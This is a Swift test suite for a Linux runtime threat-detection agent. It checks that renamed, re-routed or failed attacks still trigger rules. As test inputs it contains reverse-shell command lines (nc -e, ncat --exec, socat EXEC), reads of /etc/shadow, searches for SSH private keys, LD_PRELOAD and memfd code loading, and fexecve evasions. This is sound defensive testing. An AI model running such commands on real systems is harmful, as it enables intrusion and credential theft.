import Foundation
import Testing

/// A subject that knows the default rules tries the attacks they catch another way:
/// under another name, with the option spelt otherwise, as an attempt that fails.
/// Each variant must still be caught.
extension RealKernelTests {
    /// The rules that fired, one entry per alerting event line (an event may fire several).
    func firedRuleNames(_ result: AgentResult) -> [String] {
        result.jsonLines().compactMap { $0["rule"] as? String }
    }

    /// The output fields of every alert line of `rule` (trace --alerts).
    func outputFields(of rule: String, in result: AgentResult) -> [[String: Any]] {
        result.jsonLines().filter { $0["rule"] as? String == rule }.compactMap { $0["output_fields"] as? [String: Any] }
    }

    @Test func anotherNameForTheProgramIsNoExemption() throws {
        let dir = try Scratch.directory("names")
        defer { try? FileManager.default.removeItem(at: dir) }
        let d = dir.path
        let script = """
            cp /bin/cat \(d)/sshd && \(d)/sshd /etc/shadow > /dev/null
            cp /bin/cat \(d)/unix_chkpwd && \(d)/unix_chkpwd /etc/shadow > /dev/null
            python3 -c 'import ctypes; ctypes.CDLL(None).prctl(15, b"sshd", 0, 0, 0); open("/etc/shadow").read()'
            python3 -c 'import ctypes; ctypes.CDLL(None).prctl(15, b"containerd-shimX", 0, 0, 0)'
            sh -c 'printf sudo > /proc/self/comm; cat /etc/shadow > /dev/null'
            exit 0
            """
        try Scratch.write("\(d)/script.sh", Data(script.utf8))
        let result = try traceJSON(["sh", "\(d)/script.sh"])
        #expect(result.status == 0, "\(result.stderr)")
        let lines = result.jsonLines()
        let readers = lines.filter { "\($0)".contains("Read sensitive file by untrusted program") }
            .compactMap { ($0["output_fields"] as? [String: Any]).flatMap { field($0, "proc.exepath") } }
        #expect(readers.contains("\(d)/sshd"), "a copy of cat named sshd: \(readers)")
        #expect(readers.contains("\(d)/unix_chkpwd"))
        #expect(readers.contains { $0.contains("python") }, "python renamed to sshd by prctl: \(readers)")
        #expect(readers.contains { $0.hasSuffix("/cat") }, "cat under a shell renamed sudo")
        let fired = firedRuleNames(result)
        #expect(
            fired.filter { $0 == "Process took the name of a trusted program" }.count == 2,
            "sshd, and a name the kernel cut to containerd-shim: \(fired)")
        #expect(fired.contains("Process renamed itself"), "the comm file written: \(fired)")
    }

    @Test func theRemoteShellOptionHoweverWritten() throws {
        let dir = try Scratch.directory("netcat")
        defer { try? FileManager.default.removeItem(at: dir) }
        let d = dir.path
        // A stand-in named like netcat: what counts is how it was asked to run.
        let variants = [
            "nc -e /bin/sh 192.0.2.1 4444", "nc -e/bin/sh 192.0.2.1 4444", "nc -lvpe /bin/sh 4444",
            "nc 192.0.2.1 4444 -e /bin/sh", "nc -c sh 192.0.2.1 4444", "ncat --exec /bin/sh 192.0.2.1 4444",
            "ncat --sh-exec=sh 192.0.2.1 4444", "ncat -nvc id 192.0.2.1 4444", "socat tcp:192.0.2.1:4444 EXEC:/bin/sh",
            "socat tcp:192.0.2.1:4444 system:sh",
        ]
        let benign = ["nc -zv 192.0.2.1 80", "ncat --listen --keep-open 8080", "nc -w 3 -q 1 192.0.2.1 80"]
        var script = "mkdir -p \(d)/bin\nfor n in nc ncat socat; do cp /bin/true \(d)/bin/$n; done\n"
        for command in variants + benign { script += "\(d)/bin/\(command)\n" }
        script += "exit 0\n"
        try Scratch.write("\(d)/script.sh", Data(script.utf8))
        let result = try traceAlerts(["sh", "\(d)/script.sh"])
        #expect(result.status == 0, "\(result.stderr)")
        let caught = result.jsonLines().filter { "\($0)".contains("Netcat or socat with command execution") }
            .compactMap { ($0["output_fields"] as? [String: Any]).flatMap { field($0, "proc.cmdline") } }
        for command in variants {
            let name = String(command.prefix { $0 != " " })
            let args = command.dropFirst(name.count + 1)
            #expect(caught.contains { $0.hasSuffix(String(args)) }, "missed: \(command)")
        }
        #expect(caught.count == variants.count, "benign forms raised nothing: \(caught)")
    }

    @Test func aRefusedConnectionIsStillTheAttempt() throws {
        // Nothing listens on the mining port: the connect is refused, and still reported.
        let result = try traceJSON([
            "python3", "-c",
            "import socket\ntry:\n    socket.socket().connect(('127.0.0.1', 4444))\nexcept OSError:\n    pass",
        ])
        #expect(result.status == 0, "\(result.stderr)")
        let attempt = try #require(
            result.jsonLines().first { "\($0)".contains("Connection to a mining or reverse-shell port") })
        let fields = try #require(attempt["output_fields"] as? [String: Any])
        #expect(field(fields, "evt.res") == "ECONNREFUSED")
    }

    @Test func searchingForKeysIsFlagged() throws {
        let result = try traceJSON([
            "sh", "-c",
            "find /nonexistent -name id_rsa 2>/dev/null; grep -rl 'BEGIN OPENSSH' /nonexistent 2>/dev/null; grep -r hello /nonexistent 2>/dev/null; exit 0",
        ])
        let fired = firedRuleNames(result)
        #expect(fired.filter { $0 == "Search for private keys or credentials" }.count == 2, "\(fired)")
    }

    /// A program is where the kernel found it, not the name it was run by: a symlink
    /// elsewhere, `..`, or a descriptor (fexecve) still runs the file in /dev/shm.
    @Test func anotherWayToRunTheDroppedFileIsTheSameFile() throws {
        let dir = try Scratch.directory("exec-ways")
        defer { try? FileManager.default.removeItem(at: dir) }
        let d = dir.path
        let tag = dir.lastPathComponent
        let dropped = "/dev/shm/witness-\(tag)"
        let script = """
            cp /bin/true \(dropped)
            ln -s \(dropped) \(d)/innocent && \(d)/innocent
            (cd /tmp && ../dev/shm/witness-\(tag))
            python3 -c 'import os; fd = os.open("\(dropped)", os.O_RDONLY); pid = os.fork()
            if pid == 0: os.execve(fd, ["x"], {})
            os.waitpid(pid, 0)'
            rm -f \(dropped)
            exit 0
            """
        try Scratch.write("\(d)/script.sh", Data(script.utf8))
        let result = try traceAlerts(["sh", "\(d)/script.sh"])
        #expect(result.status == 0, "\(result.stderr)")
        let runs = result.jsonLines().filter { "\($0)".contains("Execution from shared memory") }
            .compactMap { $0["output_fields"] as? [String: Any] }
        #expect(
            runs.count == 3,
            "the symlink, the relative path and fexecve: \(runs.map { field($0, "proc.cmdline") ?? "" })")
        #expect(runs.allSatisfy { field($0, "proc.exepath") == dropped })
    }

    /// A file written during the window and then run is caught however it is run and
    /// whatever it was called: copied, renamed, written by the shell, through a symlink,
    /// by the dynamic loader (also with options before the file), and by fexecve after
    /// its name was removed.
    @Test func droppedAndRunIsCaughtHoweverItRuns() throws {
        let dir = try Scratch.directory("drop")
        defer { try? FileManager.default.removeItem(at: dir) }
        let d = dir.path
        let shm = "/dev/shm/witness-\(dir.lastPathComponent)"
        let loader = "/lib64/ld-linux-x86-64.so.2"
        let script = """
            cp /bin/true \(d)/copied && \(d)/copied
            cp /bin/true \(d)/a && mv \(d)/a \(d)/renamed && \(d)/renamed
            cat /bin/true > \(d)/written && chmod +x \(d)/written && \(d)/written
            cp /bin/true \(d)/target && ln -s \(d)/target \(d)/link && \(d)/link
            cp /bin/true \(shm) && \(loader) \(shm)
            (cd /dev/shm && \(loader) --argv0 innocent --inhibit-cache ./\(URL(fileURLWithPath: shm).lastPathComponent))
            cp /bin/true \(d)/gone
            python3 -c 'import os; fd = os.open("\(d)/gone", os.O_RDONLY); os.unlink("\(d)/gone"); pid = os.fork()
            if pid == 0: os.execve(fd, ["gone"], {})
            os.waitpid(pid, 0)'
            rm -f \(shm)
            exit 0
            """
        try Scratch.write("\(d)/script.sh", Data(script.utf8))
        let result = try traceAlerts(["sh", "\(d)/script.sh"])
        #expect(result.status == 0, "\(result.stderr)")
        let alerts = { (rule: String) in self.outputFields(of: rule, in: result) }
        let drops = alerts("Drop and execute")
        let runs = drops.map { ($0["proc.exe_loader_target"] as? String) ?? ($0["proc.exepath"] as? String) ?? "" }
        for expected in ["\(d)/copied", "\(d)/renamed", "\(d)/written", "\(d)/target", shm, "\(d)/gone"] {
            #expect(runs.contains(expected), "missed \(expected): \(runs)")
        }
        #expect(runs.filter { $0 == shm }.count == 2, "both loader runs: \(runs)")
        let writers = Set(drops.compactMap { field($0, "proc.exe_writer") })
        #expect(
            writers.contains { $0.hasSuffix("/cp") } && !writers.contains { $0.hasSuffix("/mv") },
            "the first writer, not the mover: \(writers)")
        #expect(writers.contains { $0.hasSuffix("/dash") || $0.hasSuffix("/bash") }, "the shell's redirect: \(writers)")
        #expect(
            result.jsonLines().filter { $0["rule"] as? String == "Drop and execute" }.allSatisfy {
                $0["priority"] as? String == "Error"
            })
        let shared = alerts("Execution from shared memory")
        #expect(
            shared.filter { field($0, "proc.exe_loader_target") == shm }.count == 2, "the loader's target is what ran")
        let deleted = alerts("Program run after its file was deleted")
        #expect(deleted.count == 1 && deleted.first.flatMap { field($0, "proc.exepath") } == "\(d)/gone", "\(deleted)")
    }

    /// Falco's proc.is_exe_upper_layer from the kernel: in an overlay, a program shipped
    /// in the lower layer is not in the upper one; one copied in through the merged
    /// view is (also when it was there before the window began).
    @Test func aProgramAddedToAnOverlayIsInItsUpperLayer() throws {
        let dir = try Scratch.directory("overlay")
        defer { try? FileManager.default.removeItem(at: dir) }
        let d = dir.path
        let rules = """
            - rule: Upper layer exec
              desc: test
              condition: evt.type = execve and evt.res = SUCCESS and proc.exepath startswith \(d)/merged/
              output: run (exe=%proc.exepath upper=%proc.is_exe_upper_layer)
              priority: NOTICE
            """
        try Scratch.write("\(d)/rules.yaml", Data(rules.utf8))
        let script = """
            mkdir -p \(d)/lower \(d)/upper \(d)/work \(d)/merged && cp /bin/true \(d)/lower/shipped
            mount -t overlay overlay -o lowerdir=\(d)/lower,upperdir=\(d)/upper,workdir=\(d)/work \(d)/merged
            \(d)/merged/shipped && cp /bin/true \(d)/merged/added && \(d)/merged/added
            umount \(d)/merged
            """
        try Scratch.write("\(d)/script.sh", Data(script.utf8))
        let result = try Agent.run(
            [
                "trace", "--alerts", "--rules", "\(d)/rules.yaml", "--output", "json", "--", "unshare", "-m", "sh",
                "\(d)/script.sh",
            ],
            timeout: 120)
        #expect(result.status == 0, "\(result.stderr)")
        let runs = result.jsonLines().compactMap { $0["output_fields"] as? [String: Any] }
            .map { ($0["proc.exepath"] as? String ?? "", $0["proc.is_exe_upper_layer"] as? Bool) }
        #expect(runs.count == 2, "\(runs)")
        #expect(runs.contains { $0.0 == "\(d)/merged/shipped" && $0.1 == false }, "\(runs)")
        #expect(runs.contains { $0.0 == "\(d)/merged/added" && $0.1 == true }, "\(runs)")
    }

    /// A dropped file is known by identity, so no later name hides it (moved through a
    /// symlinked directory, its directory renamed), a script by its normalised name and
    /// its interpreter, and code mapped from a dropped file (LD_PRELOAD, the loader
    /// given a descriptor) is caught at the mapping. A trusted program's path given to
    /// a script by a symlink is a write below a binary directory.
    @Test func writtenFilesAreKnownByIdentityNotName() throws {
        let dir = try Scratch.directory("identity")
        defer { try? FileManager.default.removeItem(at: dir) }
        let d = dir.path
        let tag = dir.lastPathComponent
        let loader = "/lib64/ld-linux-x86-64.so.2"
        let script = """
            cd \(d)
            mkdir real && ln -s real via && cp /bin/true a && mv a via/moved && real/moved
            mkdir d1 && cp /bin/true d1/x && mv d1 d2 && d2/x
            printf '#!/bin/sh\\ntrue\\n' > s1 && chmod +x s1 && ./s1
            cp /bin/dash interp && printf '#!\(d)/interp\\ntrue\\n' > s2 && chmod +x s2 && ./s2
            cp /bin/true /dev/shm/\(tag) && exec 3< /dev/shm/\(tag) && rm /dev/shm/\(tag) && \(loader) /dev/fd/3; exec 3<&-
            printf 'int witness_marker;\\n' > lib.c && gcc -shared -fPIC -o built.so lib.c && cp built.so evil.so
            LD_PRELOAD=\(d)/evil.so /bin/true
            LD_PRELOAD=\(d)/built.so /bin/true
            ln -s \(d)/s1 /usr/local/bin/\(tag) && rm /usr/local/bin/\(tag)
            exit 0
            """
        try Scratch.write("\(d)/script.sh", Data(script.utf8))
        let result = try traceAlerts(["sh", "\(d)/script.sh"])
        #expect(result.status == 0, "\(result.stderr)")
        let alerts = { (rule: String) in self.outputFields(of: rule, in: result) }
        let runs = alerts("Drop and execute").compactMap { $0["proc.exepath"] as? String }
        for expected in ["\(d)/real/moved", "\(d)/d2/x", "\(d)/./s1", "\(d)/./s2"] {
            #expect(runs.contains(expected), "missed \(expected): \(runs)")
        }
        let loaded = alerts("Dropped code loaded").compactMap { $0["fd.name"] as? String }
        #expect(loaded.contains("\(d)/evil.so"), "LD_PRELOAD of a copied library: \(loaded)")
        #expect(loaded.contains { $0.hasPrefix("/dev/shm/\(tag)") }, "the loader given a descriptor: \(loaded)")
        #expect(!loaded.contains("\(d)/built.so"), "what the linker wrote is built, not dropped")
        let placed = alerts("Write below binary directories").compactMap { $0["evt.args"] as? String }
        #expect(placed.contains { $0.contains("/usr/local/bin/\(tag)") }, "\(placed)")
    }

    /// What the second hostile review found and the rules now catch: a remote shell
    /// wired without dup2, a program hard-linked under another name, a library loaded
    /// from a memfd, dropped scripts handed to their interpreter by name or by
    /// descriptor.
    @Test func remoteShellsLinksMemfdLibrariesAndScriptsByAnotherRoute() throws {
        let dir = try Scratch.directory("route")
        defer { try? FileManager.default.removeItem(at: dir) }
        let d = dir.path
        let port = LoopbackPort.next()
        let script = """
            cd \(d)
            python3 -c 'import socket, time; l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            l.bind(("127.0.0.1", \(port))); l.listen(1); open("ready", "w").close(); c, _ = l.accept(); time.sleep(1)' &
            while [ ! -e ready ]; do sleep 0.05; done
            python3 -c 'import os, socket
            s = socket.create_connection(("127.0.0.1", \(port)))
            for fd in (0, 1):
                os.close(fd); os.dup(s.fileno()); os.set_inheritable(fd, True)
            os.execv("/bin/sh", ["sh", "-c", "true"])'
            wait
            ln /usr/bin/find lookup && ./lookup /nonexistent -name x 2>/dev/null; true
            printf 'int witness_memfd_marker;\\n' > m.c && gcc -shared -fPIC -o m.so m.c
            python3 -c 'import ctypes, os; fd = os.memfd_create("lib"); os.write(fd, open("m.so", "rb").read()); ctypes.CDLL("/proc/self/fd/%d" % fd)'
            printf 'true\\n' > plain.sh && sh plain.sh
            printf 'pass\\n' > p.py && python3 p.py
            printf '#!/bin/sh\\ntrue\\n' > byfd.sh && chmod +x byfd.sh && python3 -c 'import os, subprocess
            fd = os.open("byfd.sh", os.O_RDONLY); subprocess.run(["/proc/self/fd/%d" % fd], pass_fds=[fd])'
            exit 0
            """
        try Scratch.write("\(d)/script.sh", Data(script.utf8))
        let result = try traceAlerts(["sh", "\(d)/script.sh"])
        #expect(result.status == 0, "\(result.stderr)")
        let alerts = { (rule: String) in self.outputFields(of: rule, in: result) }
        let shells = alerts("Program run with its standard streams on the network")
        #expect(
            shells.contains {
                $0["proc.stdin_type"] as? String == "ipv4" && $0["proc.stdout_type"] as? String == "ipv4"
            },
            "\(shells)")
        #expect(alerts("Program hard-linked under another name").count == 1)
        #expect(
            alerts("Fileless execution").contains { ($0["fd.name"] as? String)?.hasPrefix("/memfd:lib") == true },
            "a library from a memfd: \(alerts("Fileless execution"))")
        let scripts = alerts("Dropped script run").compactMap { $0["fd.name"] as? String }
        for expected in ["\(d)/plain.sh", "\(d)/p.py", "\(d)/byfd.sh"] {
            #expect(scripts.contains(expected), "missed \(expected): \(scripts)")
        }
    }

    /// Dropped code made executable without an executable mmap: mapped readable, then
    /// mprotect'ed to PROT_EXEC; or mapped through the 32-bit gate's old mmap, whose
    /// arguments are a structure in memory.
    @Test func droppedCodeMadeExecutableLaterOrThroughTheOldGate() throws {
        let program = try CProgram.build("map-exec", CProgram.mapExecutable)
        let dir = try Scratch.directory("mprotect")
        defer { try? FileManager.default.removeItem(at: dir) }
        let d = dir.path
        let result = try traceAlerts(["sh", "-c", "cp /bin/true \(d)/code && \(program) \(d)/code"])
        #expect(result.status == 0, "\(result.stderr)")
        let loaded = result.jsonLines().filter { $0["rule"] as? String == "Dropped code loaded" }
            .compactMap { $0["output_fields"] as? [String: Any] }
            .filter { $0["fd.name"] as? String == "\(d)/code" }
        #expect(loaded.contains { $0["evt.type"] as? String == "mprotect" }, "\(loaded)")
        #expect(
            loaded.contains { $0["evt.type"] as? String == "mmap" && $0["evt.gate"] as? String == "ia32" }, "\(loaded)")
    }

    /// An argument vector longer than the kernel side keeps is said to be cut, so a
    /// rule on proc.args knows it saw only the start.
    @Test func aCutArgumentVectorIsAField() throws {
        let rules = """
            - rule: Exec seen
              desc: test
              condition: evt.type = execve and evt.res = SUCCESS and proc.name = true
              output: exec (cut=%proc.args_truncated)
              priority: NOTICE
            """
        let result = try traceAlerts(
            rules: rules, ["sh", "-c", "/bin/true short; /bin/true $(head -c 6000 /dev/zero | tr '\\0' x)"])
        #expect(result.status == 0, "\(result.stderr)")
        let cut = outputFields(of: "Exec seen", in: result).compactMap { $0["proc.args_truncated"] as? Bool }
        #expect(cut == [false, true], "\(cut)")
    }

    /// A file a subject held open for writing before the window began, written and run
    /// during it, is a dropped file too: writes through an old descriptor are not seen
    /// at an open, so the window starts by noting what its processes hold open.
    @Test func aDescriptorOpenedBeforeTheWindowStillDrops() throws {
        let dir = try Scratch.directory("prewindow")
        defer { try? FileManager.default.removeItem(at: dir) }
        let d = dir.path
        let subject = Process()
        subject.executableURL = URL(fileURLWithPath: "/bin/sh")
        subject.arguments = [
            "-c",
            """
            exec 5> \(d)/pre
            while [ ! -e \(d)/go ]; do sleep 0.05; done
            cat /usr/bin/id >&5; exec 5>&-; chmod +x \(d)/pre; \(d)/pre > /dev/null; touch \(d)/done
            """,
        ]
        try subject.run()
        defer {
            kill(subject.processIdentifier, SIGKILL)
            try? subject.waitForExit()
        }
        let agent = try RunningAgent(["trace", "--alerts", "--output", "json", "--pid", "\(subject.processIdentifier)"])
        try agent.waitUntilAttached()
        try Scratch.write("\(d)/go", nil)
        for _ in 0..<100 where !FileManager.default.fileExists(atPath: "\(d)/done") { usleep(50_000) }
        usleep(200_000)
        agent.signal(SIGINT)
        let result = try agent.finish()
        let runs = outputFields(of: "Drop and execute", in: result).compactMap { $0["proc.exepath"] as? String }
        #expect(runs.contains("\(d)/pre"), "\(runs) \(result.stderr)")
    }
}
